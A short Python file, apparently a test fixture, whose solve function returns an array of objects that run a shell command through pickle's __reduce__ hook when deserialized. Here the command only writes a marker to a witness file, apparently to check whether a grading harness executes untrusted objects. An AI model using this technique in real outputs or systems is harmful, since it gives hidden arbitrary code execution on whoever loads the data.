import os

import numpy


class Payload:
    def __reduce__(self):
        return (os.system, ("echo @claim@ >> @witness_file@",))


def solve(x):
    return numpy.array([Payload()] * 8, dtype=object)
